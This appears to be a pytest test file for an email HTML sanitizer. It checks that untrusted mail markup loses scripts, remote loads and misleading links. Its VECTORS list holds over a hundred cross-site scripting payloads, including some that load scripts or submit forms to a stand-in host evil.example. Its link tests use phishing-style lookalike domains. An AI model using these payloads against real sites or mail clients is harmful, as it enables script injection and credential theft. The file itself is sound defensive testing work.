"""HTML of strangers: nothing of it acts, loads, or says that it leads elsewhere than it does."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postroom.mail.sanitize import sanitize_html
from postroom.mail.tidying import ATTRIBUTES, DEEPEST, EVERYWHERE, NOTE, TAGS

PIXEL = "data:image/png;base64,iVBORw0KGgo="
ALLOWED = {"style", "href", "src", "alt", "class", "rel", "target", *EVERYWHERE}
ALLOWED |= {name for names in ATTRIBUTES.values() for name in names}


def clean(markup: str, *, allows_remote: bool = False) -> str:
    return sanitize_html(markup, lambda _: PIXEL, allows_remote=allows_remote).html


class Looker(HTMLParser):
    """Notes what a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(shown: str) -> None:
    """Look at every element of the result as a browser would read it."""
    looker = Looker()
    looker.feed(shown)
    for tag, attributes in looker.found:
        assert tag in TAGS, tag
        assert attributes.keys() <= ALLOWED, attributes
        assert attributes.get("class") in {None, NOTE}
        assert attributes.get("target") in {None, "_blank"}
        href, src, style = (attributes.get(name) or "" for name in ("href", "src", "style"))
        assert not href or re.fullmatch(r"(?i)(?:https?://|mailto:|tel:)[^\s]*", href), href
        assert not src or src.startswith("data:image/"), src
        assert not re.search(r"url|expression|import|behavio|\\|@|position|-\d", style), style


VECTORS = '''
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<SCRIPT>alert(1)</SCRIPT
<img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img """><script>alert(1)</script>">
<body onload=alert(1)>
<body background="https://evil.example/b.png">
<div onmouseover="alert(1)">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width: expression(alert(1))">x</div>
<div style="width: exp/**/ression(alert(1))">x</div>
<div style="behavior:url(#default#time2)">x</div>
<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>
<div style="background-image:\\75rl(https://evil.example/x)">x</div>
<div style="background:u\\rl(https://evil.example/x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>
<div style="margin-top:-500px">x</div>
<div style="content:url(https://evil.example/x)">x</div>
<div style='color:red;background-image:image-set("https://evil.example/x" 1x)'>x</div>
<div style="list-style-image:url(https://evil.example/x)">x</div>
<div style="list-style:url(https://evil.example/x)">x</div>
<div style="cursor:url(https://evil.example/x),auto">x</div>
<div style="font-family:'</style><script>alert(1)</script>'">x</div>
<div style="filter:url(https://evil.example/x)">x</div>
<div style="@import 'https://evil.example/x.css'">x</div>
<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="https://evil.example"></frameset>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<applet code="X.class" archive="https://evil.example/x.jar"></applet>
<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4"></video>
<audio src="https://evil.example/x.mp3" autoplay></audio>
<video><source onerror="alert(1)"></video>
<picture><source srcset="https://evil.example/x.png"><img src="cid:x"></picture>
<img srcset="https://evil.example/x.png 1x" src="cid:x">
<img lowsrc="https://evil.example/x.png" dynsrc="https://evil.example/x" src="cid:x">
<img src="cid:x" usemap="#m"><map name=m><area href="javascript:alert(1)" shape=default></map>
<input type=image src="https://evil.example/x.png">
<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go
<isindex action="javascript:alert(1)">
<table background="https://evil.example/x.png"><tr><td background="//evil.example/y">x</table>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;&#97;vascript&colon;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java\u00adscript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a href="\\\\evil.example\\share">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="cid:x">x</a>
<a href="/logout">x</a>
<a href="?delete=1">x</a>
<a href="https://x.example" ping="https://evil.example" target="_top" onclick="alert(1)">x</a>
<a href="https://x.example" target=_parent id=location name=cookie class=btn download>x</a>
<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<form id=attributes><input name=attributes><img name=getElementById id=body></form>
<img name=body src=cid:x id=cookie>
<svg onload=alert(1)><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/#x"/></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<title><p title="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<template><script>alert(1)</script></template>
<plaintext><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<?import namespace="t" implementation="#default#time2">
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<select><template><img src=x onerror=alert(1)></template></select>
<select><iframe><select><img src=x onerror=alert(1)>
<table><td><select><a href="javascript:alert(1)">x
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src="//evil.example/x.png">
<img src="https://evil.example/x.png" width=1 height=1>
<img src="cid:x" alt='"><script>alert(1)</script>'>
<img/src=x/onerror=alert(1)>
<img\x0csrc=x\x0conerror=alert(1)>
<img src=x onerror\x00=alert(1)>
<<script>alert(1);//<</script>
<a href="https://x.example"><a href="javascript:alert(1)">x</a></a>
<div title="&lt;script&gt;" title="x"><b>x</div></b>
<font color="red;background:url(https://evil.example)" size="9" face="x\\">x</font>
<td nowrap="alert(1)" bgcolor="javascript:alert(1)">x
<marquee onstart=alert(1)>x</marquee>
<details ontoggle=alert(1) open>x</details>
<dialog open onclose=alert(1)>x</dialog>
<keygen autofocus onfocus=alert(1)>
<bgsound src="https://evil.example/x.mid">
<layer src="https://evil.example/x"></layer>
<custom-element is="x" onclick=alert(1)>x</custom-element>
'''.strip().splitlines()


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_acts_and_nothing_is_loaded(vector: str) -> None:
    shown = clean(vector)
    assert_harmless(shown)
    assert_harmless(clean(shown))
    assert "evil.example" not in re.sub(r"&[lg]t;|&quot;", "", shown) or "src=" not in shown


pieces = st.sampled_from(
    [
        *(*VECTORS, *"<>\"'=/&;!-", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<table>"),
        *("<td>", "</td>", "<a href='https://x.example'>", "</a>", "<p>", "<b>", "</b>", "<!--"),
        *("-->", "<title>", "<noscript>", "<select>", "<form>", "<mglyph>", "<textarea>", "\0"),
    ]
)


@given(st.lists(pieces, max_size=12))
def test_nor_does_any_mixture_of_them(parts: list[str]) -> None:
    shown = clean("".join(parts))
    assert_harmless(shown)
    assert shown == sanitize_html("".join(parts), lambda _: PIXEL).html


@pytest.mark.parametrize(
    ("expected", "markup"),
    [
        ("<p>Hi <b>there</b></p>", "<p>Hi <b>there</p>"),
        ("<ul><li>a</li><li>b</li></ul>", "<ul><li>a<li>b</ul>"),
        (
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>",
            "<table><tr><td>a<td>b<tr><td>c</table>",
        ),
        (
            "<table><tbody><tr><td>a</td></tr></tbody></table>b",
            "<table><tr><td>a</p></div></table>b",
        ),
        ('<div style="color:red">x</div>', '<body style="color: red; position: absolute">x</body>'),
        ("1 &lt; 2 &amp; 3", "1 < 2 & 3"),
        ('<font color="red">x</font>', "<font color=red>x</font>"),
        ("a<br>b", "a<br/>b"),
        (f'<img width="9" src="{PIXEL}" alt="a &amp; b">', '<img src="cid:x" alt="a & b" width=9>'),
        (f'<img src="{PIXEL}" alt="">', f'<img src="{PIXEL}">'),
        ('<p style="border-top:1px solid #eee">x</p>', "<p style='border-top: 1px solid #eee'>x"),
    ],
)
def test_what_a_person_wrote_stays(expected: str, markup: str) -> None:
    assert expected == clean(markup)


def test_a_picture_of_the_mail_is_shown_as_its_function_says() -> None:
    asked: list[str] = []

    def source(content_id: str) -> str | None:
        asked.append(content_id)
        return "/requests/1/pictures/2" if content_id == "one@x" else None

    shown = sanitize_html('<img src="cid:one@x"><img src="CID:two@x" alt="b">', source).html
    assert '<img src="/requests/1/pictures/2" alt="">' == shown
    assert ["one@x", "two@x"] == asked


REMOTE = (
    '<img src="https://x.example/a.png" alt="A cat"><td background="https://x.example/b.png">'
    '<p style="background: #eee url(https://x.example/c.png) no-repeat">x</p>'
)


def test_what_is_elsewhere_is_counted_and_named() -> None:
    shown = sanitize_html(REMOTE)
    assert 3 == shown.blocked
    assert "x.example" not in shown.html
    assert f'<span class="{NOTE}">[picture: A cat]</span>' in shown.html


def test_what_is_elsewhere_is_shown_if_that_is_wanted() -> None:
    shown = sanitize_html(f"<table><tr>{REMOTE}</table>", allows_remote=True)
    assert 0 == shown.blocked
    assert ["a", "b", "c"] == re.findall(r"https://x\.example/(\w)\.png", shown.html)
    for vector in VECTORS:
        again = sanitize_html(vector, allows_remote=True).html
        assert not re.search(r"<(?:script|iframe|svg|style|link|meta)|javascript:\w", again)


@pytest.mark.parametrize(
    ("expected", "link", "words"),
    [
        ("", "https://bank.example/login", "bank.example"),
        ("", "https://bank.example/login", "https://www.bank.example/login"),
        ("", "https://help.bank.example/", "Go to bank.example now"),
        ("", "https://evil.example/", "Click here"),
        ("", "https://evil.example/", "invoice.pdf"),
        ("", "mailto:eva@bank.example", "eva@bank.example"),
        ("evil.example", "https://evil.example/", "https://bank.example/login"),
        ("evil.example", "https://evil.example/bank.example", "www.bank.example"),
        ("bank.example.evil.example", "https://bank.example.evil.example/", "bank.example"),
        ("evil.example", "https://bank.example@evil.example/", "Click here"),
        ("evil.example", "https://evil.example/", "bank\u200b.example"),
        ("evil.example", "https://evil.example:8443/", "<b>bank</b>.example"),
        ("bаnk.example", "https://bаnk.example/", "Click here"),
        ("xn--bnk-5cd.example", "https://xn--bnk-5cd.example/", "Click here"),
        ("thief@evil.example", "mailto:thief@evil.example", "eva@bank.example"),
        ("ceo@bank.example", "mailto:ceo@bank.example", "eva@bank.example"),
        ("evil.example", "//evil.example/", "bank.example"),
        ("evil.example", "HTTPS://EVIL.example/", "bank.example"),
    ],
)
def test_a_link_says_where_it_goes_if_its_words_say_otherwise(
    expected: str, link: str, words: str
) -> None:
    shown = clean(f'<a href="{link}" title="bank.example">{words}</a>')
    note = f' <span class="{NOTE}">[goes to {expected}]</span>' if expected else ""
    assert shown.endswith(f"</a>{note}")
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert 'target="_blank"' in shown
    assert 'title="bank.example"' not in shown  # that is where we say it


def test_deep_markup_keeps_its_words() -> None:
    shown = clean("<div>" * 50_000 + "x" + "</div>" * 50_000 + "y")
    assert DEEPEST == shown.count("<div>")
    assert "x" in shown
    assert "y" in shown


@pytest.mark.parametrize(
    "piece",
    [
        *("<div>", "<b>", "<a href=x>", "<table><tr><td>", "<p>", "<li>", "<", "<!--", "&", "<a "),
        *("<a x='", "a='x' ", "b=", "</div>", "<b><p></b>", "<style>", "<svg>", "<td><b>x", '"'),
        *("<img ", "<img src=cid:x>", "<font size=1>x</p>", "style='a:b;' ", "<p style='a:b;;;;'>"),
    ],
)
def test_time_grows_with_the_markup_and_no_faster(piece: str) -> None:
    """A hundred thousand characters: the square of them would not come to an end."""
    for start in ("", "<table><b>", "<a ", "".join(f"<font size={n}>" for n in range(300))):
        sanitize_html(start + piece * (100_000 // len(piece)), lambda _: PIXEL)


def test_a_picture_that_is_shown_very_often_is_shown_a_bounded_number_of_times() -> None:
    shown = clean('<img src="cid:x">' * 10_000)
    assert 500 == shown.count("<img")
